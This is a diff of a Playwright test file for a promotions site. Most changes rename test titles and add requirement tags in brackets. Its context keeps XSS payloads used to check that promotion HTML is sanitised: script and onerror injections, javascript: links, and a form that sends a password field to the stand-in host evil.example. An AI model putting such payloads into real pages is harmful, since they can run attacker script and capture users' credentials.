@@ -31,7 +31,7 @@ const button = (page: Page, name: string | RegExp) => panel(page).getByRole('but
 const files = (page: Page) => form(page).locator('input[type=file]')
 const thumbnails = (page: Page) => form(page).locator('.thumbnail')
 
-test('ROUTE-16 /promotions lists them; a kind is a filter that stands in the address', async ({ page, sandbox, axe }) => {
+test('/promotions: lists promotions; the kind is a filter in the address [ROUTE-16]', async ({ page, sandbox, axe }) => {
   await openSite(page, sandbox, '/promotions')
   await expect(title(page, 'Promotions')).toBeVisible()
   await expect(page).toHaveTitle(/^Promotions/)
@@ -49,11 +49,7 @@ test('ROUTE-16 /promotions lists them; a kind is a filter that stands in the add
   await expect(page.getByRole('button', { name: 'All', exact: true })).toHaveAttribute('aria-pressed', 'true')
 })
 
-test('ROUTE-17 LABEL-02 /promotions#<id> opens that promotion; back returns to the same place of the list', async ({
-  page,
-  sandbox,
-  axe,
-}) => {
+test('/promotions#<id>: opens that promotion; Back restores the place in the list [ROUTE-17 LABEL-02]', async ({ page, sandbox, axe }) => {
   await page.setViewportSize({ width: 390, height: 844 })
   await openSite(page, sandbox, '/promotions?kind=RACE')
   await main(page).getByRole('link', { name: 'Autumn regatta' }).scrollIntoViewIfNeeded()
@@ -75,14 +71,14 @@ test('ROUTE-17 LABEL-02 /promotions#<id> opens that promotion; back returns to t
   await expect(title(page, 'Promotions')).toBeVisible()
 })
 
-test('a table in a promotion has column headers and cells', async ({ page, sandbox, axe }) => {
+test('promotion: a table in it has column headers and cells', async ({ page, sandbox, axe }) => {
   await openSite(page, sandbox, '/promotions#pearls')
   await expect(page.getByRole('columnheader', { name: 'Prize' })).toBeVisible()
   await expect(page.getByRole('cell', { name: '$1,200.00' })).toBeVisible()
   await axe()
 })
 
-test('a promotion that is gone says so, and leads to the list', async ({ page, sandbox, allow }) => {
+test('promotion: a removed one has a message and a link to the list', async ({ page, sandbox, allow }) => {
   allow(/404/)
   for (const hash of ['nope', '%E0%A4%A', encodeURIComponent('"><script>')]) {
     await openSite(page, sandbox, `/promotions#${hash}`)
@@ -96,7 +92,7 @@ test('a promotion that is gone says so, and leads to the list', async ({ page, s
   await expect(page.getByText('This promotion is no longer available')).toBeHidden()
 })
 
-test('STATE-26 STATE-27 STATE-28 STATE-29 STATE-30 applying, process, rejected, issued and claimed, each with badge, text and next step', async ({
+test('promotion application: each state has badge, text and next step [STATE-26 STATE-27 STATE-28 STATE-29 STATE-30]', async ({
   page,
   sandbox,
 }) => {
@@ -138,7 +134,7 @@ test('STATE-26 STATE-27 STATE-28 STATE-29 STATE-30 applying, process, rejected, 
   await expect(page.locator('.promotion-card').filter({ hasText: name })).toContainText('Claimed')
 })
 
-test('STATE-31 STATE-32 STATE-33 joined and signed up by one click, coming soon and closed', async ({ page, sandbox }) => {
+test('promotion: one-click joining and sign-up, coming soon and closed [STATE-31 STATE-32 STATE-33]', async ({ page, sandbox }) => {
   const day = 86_400_000
   const joined = await publish(sandbox, { mode: 'join' })
   const signed = await publish(sandbox, { mode: 'join', joinedAs: 'signed' })
@@ -166,7 +162,7 @@ test('STATE-31 STATE-32 STATE-33 joined and signed up by one click, coming soon 
   await expect(page.locator('.promotion-card').filter({ hasText: over.title })).toContainText('Closed')
 })
 
-test('CONST-37 CONST-38 CONST-39 CONST-40 the form: 140 characters, three pictures, png or jpg, 5 MB each', async ({
+test('promotion form: at most 140 characters, three pictures, PNG or JPEG, 5 MB each [CONST-37 CONST-38 CONST-39 CONST-40]', async ({
   page,
   sandbox,
   axe,
@@ -241,10 +237,7 @@ test('CONST-37 CONST-38 CONST-39 CONST-40 the form: 140 characters, three pictur
   await expect(panel(page).getByRole('img', { name: 'Picture 3' })).toBeVisible()
 })
 
-test('a guest logs in first and is brought back to the form; what was written outlasts a login that has run out', async ({
-  page,
-  sandbox,
-}) => {
+test('promotion form: a guest returns to it after the login; the input survives an expired session', async ({ page, sandbox }) => {
   const { id, title: name } = await publish(sandbox)
   await openSite(page, sandbox, `/promotions#${id}`)
   await button(page, 'Apply').click()
@@ -273,7 +266,7 @@ test('a guest logs in first and is brought back to the form; what was written ou
   await expect(panel(page).getByText('Applied', { exact: true })).toBeVisible()
 })
 
-test('a trial user is told that a real account is needed', async ({ page, sandbox }) => {
+test('promotion: a trial user needs a real account', async ({ page, sandbox }) => {
   await sandbox.flags({ FREEPLAY3: true })
   const { id } = await publish(sandbox)
   await openSite(page, sandbox, `/promotions#${id}`)
@@ -285,7 +278,7 @@ test('a trial user is told that a real account is needed', async ({ page, sandbo
   await expect(page.getByRole('dialog')).toContainText('A real account is needed for this')
 })
 
-test('applying twice is refused in one line', async ({ page, sandbox }) => {
+test('promotion: a second application is refused with one message', async ({ page, sandbox }) => {
   const { id } = await publish(sandbox)
   await openSite(page, sandbox, `/promotions#${id}`)
   await logIn(page, sandbox, 'player1')
@@ -301,7 +294,7 @@ const hostile = `<p>Read this</p><script>window.hit=1</script><img src=x onerror
 <a href="javascript:window.hit=1">Win</a><iframe srcdoc="<script>parent.hit=1</script>"></iframe><form action="https://evil.example"><input name="password"></form>
 <style>*{display:none}</style><math><mtext><table><mglyph><style><img src=x onerror="window.hit=1">`
 
-test('a promotion whose HTML tries to run script: nothing runs', async ({ page, sandbox, allow }) => {
+test('promotion: scripts in its HTML do not run', async ({ page, sandbox, allow }) => {
   allow(/404/) // the picture x at this page's own address
   const { id } = await publish(sandbox, {
     title: '<img src=x onerror="window.hit=1">',
@@ -319,12 +312,7 @@ test('a promotion whose HTML tries to run script: nothing runs', async ({ page, 
   await expect.poll(() => placeOf(page)).toBe(`/promotions#${id}`)
 })
 
-test('CARD-10 data-tessera="promotions" mounts the widget, which shows list and detail in its own place', async ({
-  open,
-  sandbox,
-  page,
-  axe,
-}) => {
+test('promotions widget: shows list and detail inside itself [CARD-10]', async ({ open, sandbox, page, axe }) => {
   const { id, title: name } = await publish(sandbox)
   await open('<main><h1>Shop</h1><div data-tessera="promotions"></div></main>')
   await expect(title(page, 'Promotions')).toBeVisible()
@@ -362,7 +350,7 @@ test('CARD-10 data-tessera="promotions" mounts the widget, which shows list and 
   await expect(title(page, name)).toBeVisible()
 })
 
-test('ROUTE-21 /announce shows the announcements; one has its address, and one that is gone is told', async ({ page, sandbox, axe }) => {
+test('/announce: shows announcements, each with an address; a removed one has a message [ROUTE-21]', async ({ page, sandbox, axe }) => {
   await openSite(page, sandbox, '/announce')
   await expect(title(page, 'Announcements')).toBeVisible()
   const entries = page.getByRole('list', { name: 'List of announcements' }).getByRole('button')
@@ -389,7 +377,7 @@ test('ROUTE-21 /announce shows the announcements; one has its address, and one t
   await expect(page.getByRole('article')).toBeHidden()
 })
 
-test('the console publishes and edits a promotion, and reviews an application with its picture', async ({ page, sandbox, tab, axe }) => {
+test('console promotions: publish, edit, and review an application with its picture', async ({ page, sandbox, tab, axe }) => {
   const { id, title: name } = await publish(sandbox)
   const member = await tab()
   await openSite(member, sandbox, `/promotions#${id}`)
@@ -421,11 +409,7 @@ test('the console publishes and edits a promotion, and reviews an application wi
   await expect(main(member).getByRole('link', { name: 'Fresh from the console' })).toBeHidden()
 })
 
-test('CONST-48 CONST-49 the next 7 and 30 days leave what runs then, and what has ended is not among it', async ({
-  page,
-  sandbox,
-  axe,
-}) => {
+test('promotions: filters of the next 7 and 30 days, ended ones are not listed [CONST-48 CONST-49]', async ({ page, sandbox, axe }) => {
   const day = 86_400_000
   const later = await publish(sandbox, { startsAt: Date.now() + 20 * day, endsAt: Date.now() + 25 * day })
   const over = await publish(sandbox, { startsAt: Date.now() - 5 * day, endsAt: Date.now() - 2 * day })
@@ -445,7 +429,11 @@ test('CONST-48 CONST-49 the next 7 and 30 days leave what runs then, and what ha
   await expect(card(over.title)).toBeVisible()
 })
 
-test('the console rejects with a reason and asks first; what is decided has no buttons', async ({ page, tab, sandbox }) => {
+test('console promotions: rejecting needs a reason and a confirmation; decided applications have no buttons', async ({
+  page,
+  tab,
+  sandbox,
+}) => {
   const { id, title: name } = await publish(sandbox)
   const member = await tab()
   await openSite(member, sandbox, `/promotions#${id}`)
